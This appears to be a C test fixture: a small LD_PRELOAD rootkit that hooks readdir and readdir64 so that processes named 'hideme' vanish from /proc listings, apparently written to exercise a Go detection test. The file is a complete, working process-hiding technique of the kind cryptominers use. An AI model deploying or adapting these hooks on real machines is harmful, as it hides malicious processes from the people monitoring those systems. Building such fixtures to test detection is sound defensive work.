/* hideproc: a minimal LD_PRELOAD rootkit of the kind miners ship
 * (libprocesshider): it hooks readdir/readdir64 and drops /proc entries
 * whose comm is "hideme", so ps, top and ls under it cannot see them.
 * Used only by ldpreload_test.go. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int hide(DIR *d, const char *name) {
	char link[64], path[256], comm[64] = {0};
	const char *p;
	ssize_t n;
	FILE *f;
	if (!*name)
		return 0;
	for (p = name; *p; p++)
		if (!isdigit((unsigned char)*p))
			return 0;
	snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(d));
	n = readlink(link, path, sizeof path - 1);
	if (n < 0)
		return 0;
	path[n] = 0;
	if (strcmp(path, "/proc") != 0)
		return 0;
	snprintf(path, sizeof path, "/proc/%s/comm", name);
	f = fopen(path, "r");
	if (!f)
		return 0;
	if (!fgets(comm, sizeof comm, f))
		comm[0] = 0;
	fclose(f);
	comm[strcspn(comm, "\n")] = 0;
	return strcmp(comm, "hideme") == 0;
}

struct dirent *readdir(DIR *d) {
	static struct dirent *(*orig)(DIR *);
	struct dirent *e;
	if (!orig)
		orig = dlsym(RTLD_NEXT, "readdir");
	while ((e = orig(d)) && hide(d, e->d_name))
		;
	return e;
}

struct dirent64 *readdir64(DIR *d) {
	static struct dirent64 *(*orig)(DIR *);
	struct dirent64 *e;
	if (!orig)
		orig = dlsym(RTLD_NEXT, "readdir64");
	while ((e = orig(d)) && hide(d, e->d_name))
		;
	return e;
}
